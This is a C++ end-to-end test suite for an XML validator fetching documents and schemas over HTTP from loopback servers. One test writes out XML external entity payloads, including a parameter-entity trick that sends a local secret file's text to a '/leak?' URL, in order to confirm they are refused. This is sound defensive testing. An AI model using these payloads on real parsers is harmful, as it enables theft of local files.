// Runs the built vexlor binary on documents, DTDs and schemas served over
// http and https by servers that the tests start on 127.0.0.1, and checks
// standard output, standard error and the exit code byte for byte.

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <memory>
#include <string>
#include <vector>

#include "e2e/FolderMatrix.h"
#include "support/ExpectedOutput.h"
#include "support/LoopbackPort.h"
#include "support/LoopbackServer.h"
#include "support/ProcessRunner.h"
#include "support/TemporaryDirectory.h"

namespace {

using namespace testsupport::expected;
using testsupport::LoopbackPort;
using testsupport::LoopbackServer;
using testsupport::ProcessOptions;
using testsupport::ProcessResult;
using testsupport::ProcessRunner;

const char orderDtd[] =
    "<!ELEMENT order (item+)>\n"
    "<!ELEMENT item (#PCDATA)>\n"
    "<!ATTLIST item qty CDATA #IMPLIED>\n";

const char orderSchema[] =
    "<?xml version='1.0'?>\n"
    "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema' targetNamespace='urn:order'\n"
    "           xmlns='urn:order' elementFormDefault='qualified'>\n"
    "  <xs:include schemaLocation='item.xsd'/>\n"
    "  <xs:element name='order'><xs:complexType><xs:sequence>\n"
    "    <xs:element ref='item' maxOccurs='unbounded'/>\n"
    "  </xs:sequence></xs:complexType></xs:element>\n"
    "</xs:schema>\n";

const char itemSchema[] =
    "<?xml version='1.0'?>\n"
    "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema' targetNamespace='urn:order'\n"
    "           xmlns='urn:order' elementFormDefault='qualified'>\n"
    "  <xs:element name='item'><xs:complexType><xs:simpleContent>\n"
    "    <xs:extension base='xs:string'>\n"
    "      <xs:attribute name='qty' type='xs:positiveInteger'/>\n"
    "    </xs:extension>\n"
    "  </xs:simpleContent></xs:complexType></xs:element>\n"
    "</xs:schema>\n";

std::string orderWithDtd(const std::string& dtdLocation, const std::string& items) {
  return "<?xml version='1.0'?>\n<!DOCTYPE order SYSTEM '" + dtdLocation + "'>\n<order>" + items +
         "</order>\n";
}

std::string orderWithSchemaHint(const std::string& qty) {
  return "<?xml version='1.0'?>\n"
         "<order xmlns='urn:order' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'\n"
         "       xsi:schemaLocation='urn:order schemas/order.xsd'>\n"
         "<item qty='" + qty + "'>pen</item>\n"
         "</order>\n";
}

ProcessResult runVexlor(const std::string& binary, const std::string& argument) {
  ProcessOptions options;
  // A guard against a hang, far above every timeout that vexlor applies here.
  options.timeLimit = std::chrono::seconds(90);
  ProcessResult result = ProcessRunner::run(binary, {argument}, options);
  EXPECT_FALSE(result.timedOut) << "vexlor did not finish in time";
  return result;
}

void expectValid(const std::string& argument) {
  ProcessResult result = runVexlor(VEXLOR_BINARY, argument);
  EXPECT_EQ(banner + "OK-" + argument + "\n", result.standardOutput);
  EXPECT_EQ("", result.standardError);
  EXPECT_EQ(0, result.exitCode);
}

/// errors: the component's lines, each "LOCATION:LINE:COLUMN: MESSAGE".
void expectRejected(const std::string& argument, const std::vector<std::string>& errors,
                    const std::string& binary = VEXLOR_BINARY) {
  ProcessResult result = runVexlor(binary, argument);
  EXPECT_EQ(banner, result.standardOutput);
  EXPECT_EQ(failureReport(argument, errors), result.standardError);
  EXPECT_EQ(failureExit, result.exitCode);
}

std::string loadFailure(const std::string& url, const std::string& reason) {
  return url + ":0:0: failed to load \"" + url + "\": " + reason;
}

class NetworkTest : public ::testing::Test {
protected:
  static void SetUpTestSuite() {
    // The loopback server must be reached directly, whatever the machine's set-up.
    for (const char* name : {"http_proxy", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"}) {
      unsetenv(name);
    }
    server = std::make_unique<LoopbackServer>();
    server->addFile("dtd/sub/order.dtd", orderDtd);
    server->addFile("dtd/valid.xml", orderWithDtd("sub/order.dtd", "<item qty='2'>pen</item>"));
    server->addFile("dtd/invalid.xml", orderWithDtd("sub/order.dtd", "<item>pen</item><note/>"));
    server->addFile("dtd/not-xml.xml", "this is not XML\n");
    server->addFile("xsd/schemas/order.xsd", orderSchema);
    server->addFile("xsd/schemas/item.xsd", itemSchema);
    server->addFile("xsd/valid.xml", orderWithSchemaHint("2"));
    server->addFile("xsd/invalid.xml", orderWithSchemaHint("-2"));
    // Only here, beside the moved documents, is there a moved.dtd.
    server->addFile("moved/moved.dtd", orderDtd);
    server->addFile("moved/valid.xml", orderWithDtd("moved.dtd", "<item>pen</item>"));
    server->addFile("moved/invalid.xml", orderWithDtd("moved.dtd", "<note/>"));
  }
  static void TearDownTestSuite() { server.reset(); }

  static std::unique_ptr<LoopbackServer> server;
};

std::unique_ptr<LoopbackServer> NetworkTest::server;

TEST_F(NetworkTest, RemoteDocumentWithRelativeDtdValidatesLikeALocalOne) {
  expectValid(server->url("/dtd/valid.xml"));

  const std::string invalid = server->url("/dtd/invalid.xml");
  expectRejected(invalid, {invalid + ":3:29: Element order content does not follow the DTD, Misplaced note",
                           invalid + ":3:29: No declaration for element note"});
}

TEST_F(NetworkTest, RemoteDocumentWithRelativeSchemaHintsAndAnIncludeIsValidated) {
  expectValid(server->url("/xsd/valid.xml"));

  const std::string invalid = server->url("/xsd/invalid.xml");
  expectRejected(invalid, {invalid + ":4:15: Element '{urn:order}item', attribute 'qty': '-2' is not a "
                                     "valid value of the atomic type 'xs:positiveInteger'."});
}

TEST_F(NetworkTest, BodyThatIsNotXmlIsReportedAtItsUrl) {
  const std::string url = server->url("/dtd/not-xml.xml");
  expectRejected(url, {url + ":1:1: Start tag expected, '<' not found"});
}

TEST_F(NetworkTest, LocalDocumentUsesItsDtdFromTheServerAndNamesItWhenMissing) {
  testsupport::TemporaryDirectory directory;
  const std::string valid =
      directory.write("valid.xml", orderWithDtd(server->url("/dtd/sub/order.dtd"), "<item>pen</item>"));
  expectValid(valid);

  const std::string missingDtd = server->url("/dtd/sub/missing.dtd");
  const std::string orphan = directory.write("orphan.xml", orderWithDtd(missingDtd, "<item>pen</item>"));
  // Reported where the DOCTYPE declaration that names the DTD ends.
  const std::string doctype = "<!DOCTYPE order SYSTEM '" + missingDtd + "'>";
  const std::string dtdPosition = ":2:" + std::to_string(doctype.size() + 1);
  expectRejected(orphan, {orphan + dtdPosition + ": failed to load \"" + missingDtd +
                              "\": HTTP status 404 (Not Found)"});
}

TEST_F(NetworkTest, RedirectedDocumentResolvesAndReportsAgainstItsFinalUrl) {
  expectValid(server->url("/redirect?to=%2Fmoved%2Fvalid.xml"));

  const std::string requested = server->url("/redirect?to=%2Fmoved%2Finvalid.xml");
  const std::string final = server->url("/moved/invalid.xml");
  expectRejected(requested, {final + ":3:13: Element order content does not follow the DTD, Misplaced note",
                             final + ":3:13: No declaration for element note"});
}

TEST_F(NetworkTest, HttpErrorStatusAndRedirectLoopAreReported) {
  const std::string missing = server->url("/dtd/missing.xml");
  expectRejected(missing, {loadFailure(missing, "HTTP status 404 (Not Found)")});

  const std::string loop = server->url("/loop");
  expectRejected(loop, {loadFailure(loop, "too many redirects (more than 5)")});
}

TEST_F(NetworkTest, ClosedPortIsReportedAsConnectionRefused) {
  LoopbackPort closed(LoopbackPort::Behaviour::refusing);
  const std::string url = "http://127.0.0.1:" + std::to_string(closed.port()) + "/doc.xml";
  expectRejected(url, {loadFailure(url, "connection refused")});
}

TEST_F(NetworkTest, ServerThatNeverAnswersEndsInTheStallTimeout) {
  // vexlor_short_timeouts is vexlor built with a 2-second stall timeout.
  LoopbackPort silent(LoopbackPort::Behaviour::silent);
  const std::string url = "http://127.0.0.1:" + std::to_string(silent.port()) + "/doc.xml";
  expectRejected(url, {loadFailure(url, "timeout: no data for 2 seconds")}, VEXLOR_SHORT_TIMEOUTS_BINARY);
}

TEST_F(NetworkTest, SelfSignedCertificateIsRejected) {
  LoopbackServer secure(LoopbackServer::Transport::httpsSelfSigned);
  secure.addFile("doc.xml", "<doc/>\n");
  const std::string url = secure.url("/doc.xml");
  expectRejected(url, {loadFailure(url, "TLS certificate verification failed: "
                                        "SSL certificate problem: self-signed certificate")});
}

TEST_F(NetworkTest, OtherUrlSchemesAreRefused) {
  const std::string url = "ftp://127.0.0.1/doc.xml";
  expectRejected(url, {loadFailure(url, "the URL scheme 'ftp' is not supported "
                                        "(only file, http and https are)")});
}

TEST_F(NetworkTest, ServedFolderMatrixResolvesAgainstEachDocument) {
  LoopbackServer tree;
  const auto documents = e2e::writeFolderMatrix(
      [&tree](const std::string& name, const std::string& content) { tree.addFile(name, content); });
  for (const e2e::MatrixDocument& document : documents) {
    const std::string url = tree.url("/" + e2e::escapePath(document.path));
    SCOPED_TRACE(url);
    const ProcessResult result = runVexlor(VEXLOR_BINARY, url);
    EXPECT_EQ(document.valid ? 0 : failureExit, result.exitCode);
    EXPECT_EQ(std::string::npos, result.standardError.find("failed to load")) << result.standardError;
  }
}

// A served document may name local files, but they are never opened, and so
// never read into the report nor sent on to a server.
TEST_F(NetworkTest, RemoteResourcesMayNotReferToLocalFiles) {
  testsupport::TemporaryDirectory local;
  const std::string secret = local.write("secret.txt", "SECRET");
  const std::string secretUrl = "file://" + secret;
  const std::string schemaStart = "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema'>";
  LoopbackServer origin;
  origin.addFile("entity.xml", "<!DOCTYPE d [<!ELEMENT d ANY><!ENTITY e SYSTEM '" + secretUrl + "'>]>\n<d>&e;</d>\n");
  // The parameter-entity trick: the file's text would go out in a URL.
  origin.addFile("pe.dtd", "<!ENTITY % file SYSTEM '" + secretUrl + "'>\n"
                           "<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '" + origin.url("/leak?") + "%file;'>\">\n"
                           "%eval;\n%send;\n");
  origin.addFile("pe.xml", "<!DOCTYPE d SYSTEM 'pe.dtd'>\n<d/>\n");
  origin.addFile("hint.xml", "<d xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
                             "xsi:noNamespaceSchemaLocation='" + secretUrl + "'/>\n");
  origin.addFile("include.xsd", schemaStart + "<xs:include schemaLocation='" + secretUrl + "'/></xs:schema>");
  origin.addFile("include.xml", "<d xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
                                "xsi:noNamespaceSchemaLocation='include.xsd'/>\n");
  const std::string refusal = "failed to load \"" + secret + "\": ";
  const struct {
    const char* document;
    std::string expected;
  } cases[] = {
      {"/entity.xml", refusal + "the remote resource \"" + origin.url("/entity.xml") + "\" may not refer"},
      {"/pe.xml", refusal + "the remote resource \"" + origin.url("/pe.dtd") + "\" may not refer"},
      {"/hint.xml", refusal + "the remote resource \"" + origin.url("/hint.xml") + "\" may not refer"},
      {"/include.xml", refusal + "a remote schema may not refer to a local file"},
  };
  for (const auto& row : cases) {
    SCOPED_TRACE(row.document);
    const ProcessResult result = runVexlor(VEXLOR_BINARY, origin.url(row.document));
    EXPECT_EQ(failureExit, result.exitCode);
    EXPECT_NE(std::string::npos, result.standardError.find(row.expected)) << result.standardError;
    EXPECT_EQ(std::string::npos, result.standardError.find("SECRET")) << result.standardError;
  }
  for (const std::string& request : origin.requests()) {
    EXPECT_EQ(std::string::npos, request.find("leak")) << request;
  }
}

TEST_F(NetworkTest, RemoteEntityIsFetchedOnceForAllItsReferences) {
  LoopbackServer counted;
  counted.addFile("one.ent", "x");
  std::string references;
  for (int i = 0; i < 2000; ++i) {
    references += "&one;";
  }
  counted.addFile("doc.xml", "<!DOCTYPE d [<!ELEMENT d (#PCDATA)><!ENTITY one SYSTEM 'one.ent'>]>\n<d>" +
                                 references + "</d>\n");
  expectValid(counted.url("/doc.xml"));
  const std::vector<std::string> requests = counted.requests();
  EXPECT_EQ(1, std::count(requests.begin(), requests.end(), "/one.ent"));
}

// What a terminal's line holds once text has been written to it: a
// carriage return goes back to the start, other characters overwrite.
std::string terminalLine(const std::string& written) {
  std::string line;
  std::size_t column = 0;
  for (const char c : written) {
    if (c == '\r') {
      column = 0;
      continue;
    }
    if (column < line.size()) {
      line[column] = c;
    } else {
      line.push_back(c);
    }
    ++column;
  }
  return line.substr(0, line.find_last_not_of(' ') + 1);
}

TEST_F(NetworkTest, LongCheckShowsProgressOnATerminalOnlyAndErasesIt) {
  const std::string url = server->url("/slow?seconds=2.5");
  ProcessOptions options;
  options.timeLimit = std::chrono::seconds(90);
  options.standardErrorTerminal = true;
  const ProcessResult onTerminal = ProcessRunner::run(VEXLOR_BINARY, {url}, options);
  EXPECT_EQ(banner + "OK-" + url + "\n", onTerminal.standardOutput);
  EXPECT_EQ(0, onTerminal.exitCode);
  // The response announces its length: the share read is shown.
  EXPECT_NE(std::string::npos, onTerminal.standardError.find(" KB of 63 KB (")) << onTerminal.standardError;
  EXPECT_EQ("", terminalLine(onTerminal.standardError)) << onTerminal.standardError;
  // Redirected, standard error stays empty however long the check.
  expectValid(url);
}

} // namespace
